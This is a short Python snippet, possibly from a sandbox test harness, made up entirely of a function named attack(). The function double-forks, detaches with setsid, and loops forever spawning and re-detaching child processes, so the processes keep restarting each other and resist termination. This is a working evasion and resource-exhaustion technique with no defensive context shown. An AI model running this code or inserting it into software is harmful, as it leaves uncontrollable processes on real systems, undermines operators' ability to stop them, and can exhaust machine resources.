# Leaves two processes that watch and restart each other.
def attack():
    import posix
    import time

    if posix.fork():
        return False
    posix.setsid()
    while True:
        try:
            child = posix.fork()
        except OSError:
            continue
        if child:
            try:
                posix.waitpid(child, 0)
            except OSError:
                pass
        else:
            posix.setsid()
            time.sleep(0.01)
            try:
                if posix.fork():
                    posix._exit(0)
            except OSError:
                pass
